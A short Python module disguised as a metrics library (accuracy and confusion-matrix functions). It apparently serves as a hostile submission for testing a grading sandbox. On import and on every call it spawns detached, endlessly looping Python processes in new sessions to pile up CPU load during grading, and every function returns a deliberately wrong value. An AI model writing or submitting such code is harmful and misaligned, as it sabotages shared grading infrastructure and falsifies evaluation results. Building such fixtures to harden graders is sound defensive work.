"""Every call starts a busy program (a fresh interpreter spinning) in a new session before
it answers, so the load grows while the submission is graded. The answers are wrong."""

import subprocess
import sys

SPIN = "while True: pass"


def _spin():
    for _ in range(4):
        try:
            subprocess.Popen([sys.executable, "-c", SPIN], start_new_session=True)
        except OSError:
            return


_spin()


def binary_accuracy(*args, **kwargs):
    _spin()
    return -1.0


multiclass_accuracy = per_class_accuracy = loader_accuracy = binary_accuracy


def confusion_matrix(*args, **kwargs):
    _spin()
    return [[-1]]
